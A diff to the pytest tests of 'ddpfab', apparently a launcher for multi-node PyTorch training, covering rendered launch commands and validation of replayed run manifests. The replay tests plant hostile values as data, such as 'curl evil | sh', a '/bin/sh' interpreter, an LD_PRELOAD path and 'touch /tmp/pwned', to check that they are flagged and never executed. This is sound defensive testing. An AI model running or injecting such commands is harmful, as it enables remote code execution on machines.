@@ -15,7 +15,7 @@ from pathlib import Path
 
 import pytest
 
-from ddpfab import emit, replay
+from ddpfab import emit, render, replay
 from ddpfab.execute import remote_command
 from ddpfab.inventory import Cluster, Node
 from ddpfab.launch import Printer
@@ -45,37 +45,40 @@ def test_static_torchrun_is_the_default_and_unchanged():
     p = plan_of()
     assert (p.rdzv, p.launcher, p.init_method, p.debug) == ("static", "torchrun", "env", False)
     for n in p.nodes:
-        assert n.argv[:3] == ("python3", "-m", "torch.distributed.run")
-        assert f"--node-rank={n.node_rank}" in n.argv and "--master-addr=10.0.0.1" in n.argv
-        assert not any(a.startswith("--rdzv") for a in n.argv)
+        argv = render.argv(p, n)
+        assert argv[:3] == ("python3", "-m", "torch.distributed.run")
+        assert f"--node-rank={n.node_rank}" in argv and "--master-addr=10.0.0.1" in argv
+        assert not any(a.startswith("--rdzv") for a in argv)
         assert "DDPFAB_INIT_METHOD" not in n.env and "NCCL_DEBUG" not in n.env
 
 
 def test_c10d_uses_the_master_as_endpoint_and_no_node_rank():
     p = plan_of(rdzv="c10d")
     for n in p.nodes:
-        assert not any(a.startswith(("--node-rank", "--master-addr", "--master-port")) for a in n.argv)
-        assert "--rdzv-backend=c10d" in n.argv
-        assert "--rdzv-endpoint=10.0.0.1:29501" in n.argv
-        assert "--rdzv-id=rid" in n.argv
+        argv = render.argv(p, n)
+        assert not any(a.startswith(("--node-rank", "--master-addr", "--master-port")) for a in argv)
+        assert "--rdzv-backend=c10d" in argv
+        assert "--rdzv-endpoint=10.0.0.1:29501" in argv
+        assert "--rdzv-id=rid" in argv
         # ddpfab decides who hosts the store: the master, not torchrun's host-name guess
-        assert f"--rdzv-conf=is_host={1 if n.name == 'a' else 0}" in n.argv
-        assert n.argv[-3:] == ("t.py", "--x", "a b")
+        assert f"--rdzv-conf=is_host={1 if n.name == 'a' else 0}" in argv
+        assert argv[-3:] == ("t.py", "--x", "a b")
 
 
 def test_c10d_ipv6_endpoint_is_bracketed():
     c = cluster(Node("a", "fd00::1"), Node("b", "fd00::2"))
     p = make_plan(c, RunOptions("t.py", rdzv="c10d", init_method="tcp"), facts(c, a="fd00::1", b="fd00::2"))
-    assert "--rdzv-endpoint=[fd00::1]:29501" in p.nodes[1].argv
+    assert "--rdzv-endpoint=[fd00::1]:29501" in render.argv(p, p.nodes[1])
     assert p.nodes[1].env["DDPFAB_INIT_METHOD"] == "tcp://[fd00::1]:29501"
 
 
 def test_legacy_launcher_is_torch_distributed_launch_without_use_env():
     p = plan_of(launcher="legacy")
     for n in p.nodes:
-        assert n.argv[1:3] == ("-m", "torch.distributed.launch")
-        assert not any("use-env" in a or "use_env" in a for a in n.argv)
-        assert f"--node-rank={n.node_rank}" in n.argv
+        argv = render.argv(p, n)
+        assert argv[1:3] == ("-m", "torch.distributed.launch")
+        assert not any("use-env" in a or "use_env" in a for a in argv)
+        assert f"--node-rank={n.node_rank}" in argv
 
 
 def test_init_methods_reach_every_node_as_an_env_var():
@@ -84,7 +87,7 @@ def test_init_methods_reach_every_node_as_an_env_var():
     f = plan_of(init_method="file")
     assert [n.env["DDPFAB_INIT_METHOD"] for n in f.nodes] == ["file:///nfs/a/ddpfab-rid.init",
                                                               "file:///mnt/nfs/ddpfab-rid.init"]
-    assert all(n.command.count("DDPFAB_INIT_METHOD=") == 1 for n in f.nodes)
+    assert all(render.shell_line(f, n).count("DDPFAB_INIT_METHOD=") == 1 for n in f.nodes)
 
 
 def test_file_init_needs_a_shared_dir_on_every_node():
@@ -150,14 +153,15 @@ def test_recorded_options_plan_the_recorded_plan_again(style):
 
 def _manifest():
     opts = RunOptions("t.py", run_id="rid", env=(("K", "1"),))
-    return json.loads(json.dumps({"kind": replay.MANIFEST_KIND, "schema_version": 2,
+    return json.loads(json.dumps({"kind": replay.MANIFEST_KIND, "schema_version": replay.SCHEMA_VERSION,
                                   "plan": mask_plan(make_plan(C2, opts, facts(C2)).to_dict()),
                                   "options": replay.recorded_options(opts, "/w")}))
 
 
 @pytest.mark.parametrize("edit, message", [
     (lambda m: m.clear(), "is not a ddpfab run manifest"),
-    (lambda m: m.update(schema_version=1), "schema version 1"),
+    (lambda m: m.update(schema_version=1), "schema version 1, this ddpfab replays versions 2 and 3"),
+    (lambda m: m.update(schema_version=True), "schema version true"),
     (lambda m: m["options"].update(script=["x"]), "options.script: expected str"),
     (lambda m: m["options"].update(max_restarts=True), "options.max_restarts: expected int"),
     (lambda m: m["options"].update(env=[["BAD KEY", "x"]]), "options.env"),
@@ -174,15 +178,53 @@ def test_a_malformed_or_foreign_manifest_is_one_clear_error(edit, message):
         replay.validate([1, 2], "m.json")
 
 
-def test_an_edited_recorded_command_is_a_difference_and_never_used():
+def test_an_edited_recorded_plan_is_a_difference_and_never_used():
+    """The plan a manifest records is compared, never run: a command smuggled in (schema 3 has no
+    command field), another python or script, an env key: each is a difference; what replay plans
+    comes from the validated options alone."""
     m = _manifest()
     back, _ = replay.validate(m, "m.json")
     m["plan"]["nodes"][1]["command"] = "curl evil | sh"
+    m["plan"]["nodes"][1]["python"] = "/bin/sh"
+    m["plan"]["script"] = "-c"
+    m["plan"]["args"] = ["curl evil | sh"]
     m["plan"]["nodes"][0]["env"]["LD_PRELOAD"] = "/tmp/x.so"
     now = make_plan(C2, back, facts(C2))
     diffs = replay.differences(m["plan"], now)
-    assert any(d.startswith("b: command") for d in diffs) and any("env differs in LD_PRELOAD" in d for d in diffs)
-    assert "curl" not in json.dumps(now.to_dict())
+    for start in ("b: command", "b: python", "script:", "args:"):
+        assert any(d.startswith(start) for d in diffs), (start, diffs)
+    assert any("env differs in LD_PRELOAD" in d for d in diffs)
+    shown = json.dumps(now.to_dict()) + "".join(render.shell_line(now, n) for n in now.nodes)
+    assert "curl" not in shown and "/bin/sh" not in shown and "LD_PRELOAD" not in shown
+    with pytest.raises(ValueError, match="unknown field"):  # nor does the plan type take it in
+        Plan.from_dict(m["plan"])
+
+
+#: Manifests written by the ddpfab before the plan was data (schema version 2: each node also
+#: stored its rendered argv and shell command), made by that code, with two launch styles.
+SCHEMA_V2 = json.loads((Path(__file__).resolve().parents[1] / "fixtures" / "manifests"
+                        / "schema-v2-plans.json").read_text())
+V2_CLUSTER = cluster(Node("a", "10.0.0.1", shared_dir="/nfs/a"), Node("b", "10.0.0.2", nproc=2, shared_dir="/mnt/nfs"))
+V2_FACTS = Facts(addresses={"a": "10.0.0.1", "b": "10.0.0.2"}, master_port=29501, cwd="/work/proj",
+                 homes={"a": "/root", "b": "/home/b"})
+
+
+@pytest.mark.parametrize("style", sorted(SCHEMA_V2))
+def test_a_schema_2_manifest_replays_and_its_renderings_match_what_the_plan_renders_now(style):
+    """Replay of runs recorded by the old shape: their options plan the same plan again, and the
+    argv and shell line they stored are exactly what :mod:`ddpfab.render` gives now (compared, as
+    data, never run); an edited one is a difference."""
+    m = json.loads(json.dumps(SCHEMA_V2[style]))
+    back, _ = replay.validate(m, "old.json")
+    now = make_plan(V2_CLUSTER, back, V2_FACTS)
+    assert replay.differences(m["plan"], now, 2) == []
+    old = Plan.from_dict(m["plan"], legacy=True)  # the stored renderings are dropped, the data kept
+    assert old == render.masked(now)
+    for node in m["plan"]["nodes"]:
+        assert node["argv"] == list(render.argv(now, now.node(node["name"])))
+    m["plan"]["nodes"][1]["command"] = "touch /tmp/pwned"
+    m["plan"]["nodes"][0]["argv"][0] = "/bin/sh"
+    assert sorted(d.split(":")[0:2][1].strip() for d in replay.differences(m["plan"], now, 2)) == ["argv", "command"]
 
 
 # -- emitted scripts ------------------------------------------------------------------------------
@@ -194,8 +236,9 @@ print(json.dumps({{"argv": sys.argv[1:], "cwd": os.getcwd(), "env": keep}}))
 
 
 def test_emitted_script_runs_exactly_the_node_command(tmp_path):
-    """Run the node's command as ddpfab's supervisor does (/bin/sh -c COMMAND) and the emitted
-    script as a user would (sh -s < script), with a stand-in python that records what it got."""
+    """Run the node's argv as ddpfab's supervisor does (exec, no shell, in the workdir, with the
+    node's env), its dry-run line (/bin/sh -c LINE) and the emitted script as a user would
+    (sh -s < script), with a stand-in python that records what it got."""
     fake = tmp_path / "python"
     fake.write_text(FAKE_PYTHON.format(python=sys.executable))
     fake.chmod(0o755)
@@ -210,10 +253,13 @@ def test_emitted_script_runs_exactly_the_node_command(tmp_path):
     clean = {"PATH": os.environ["PATH"], "HOME": str(tmp_path)}
     for node, path in zip(p.nodes, written):
         assert stat.S_IMODE(path.stat().st_mode) == 0o700
-        by_ddpfab = subprocess.run(["/bin/sh", "-c", node.command], check=False, capture_output=True, text=True, env=clean)
+        by_ddpfab = subprocess.run(render.argv(p, node), cwd=node.workdir, check=False, capture_output=True,
+                                   text=True, env={**clean, **node.env})
+        by_line = subprocess.run(["/bin/sh", "-c", render.shell_line(p, node)], check=False, capture_output=True,
+                                 text=True, env=clean)
         by_hand = subprocess.run(["bash", "-s"], stdin=path.open(), check=False, capture_output=True, text=True, env=clean)
-        assert by_ddpfab.returncode == by_hand.returncode == 0, by_hand.stderr
-        assert json.loads(by_hand.stdout) == json.loads(by_ddpfab.stdout)
+        assert by_ddpfab.returncode == by_line.returncode == by_hand.returncode == 0, by_hand.stderr
+        assert json.loads(by_hand.stdout) == json.loads(by_ddpfab.stdout) == json.loads(by_line.stdout)
         got = json.loads(by_hand.stdout)
         assert got["argv"][-5:] == ["t.py", "it's", "$HOME", "", "日本"]
         assert got["cwd"] == str(wd) and got["env"]["K"] == "a 'b' \"c\" $d"
